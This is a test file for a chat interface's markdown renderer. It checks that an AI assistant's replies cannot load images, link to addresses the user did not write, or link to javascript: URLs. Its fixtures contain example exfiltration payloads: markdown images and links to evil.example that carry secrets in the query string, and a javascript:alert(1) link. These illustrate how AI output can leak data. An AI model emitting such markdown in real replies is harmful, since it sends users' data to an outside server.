import { renderToStaticMarkup } from 'react-dom/server';
import Markdown from 'react-markdown';
import { describe, expect, it } from 'vitest';
import { chatMarkdownComponents } from './chat-markdown';

const render = (reply: string, writtenByUser: string[] = []) =>
  renderToStaticMarkup(<Markdown components={chatMarkdownComponents(writtenByUser)}>{reply}</Markdown>);

describe('an assistant reply as rendered', () => {
  it('loads no image, whatever the reply asks, and shows its alt text', () => {
    const html = render('Here: ![chart](https://evil.example/?d=secret-project) and ![](https://evil.example/x.png)');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('[chart]');
  });

  it('links only to addresses the user wrote, and shows any other as text', () => {
    const html = render('See [the docs](https://evil.example/?d=secret) or [my site](https://ada.example/blog).', [
      'What do you think of https://ada.example/blog?',
    ]);
    expect(html).not.toContain('href="https://evil.example');
    expect(html).toContain('the docs');
    expect(html).toContain('<a href="https://ada.example/blog" target="_blank" rel="noopener noreferrer nofollow"');
  });

  it('never links to a script, even one the user wrote', () => {
    const html = render('[run](javascript:alert(1))', ['javascript:alert(1)']);
    expect(html).not.toContain('javascript:');
  });
});
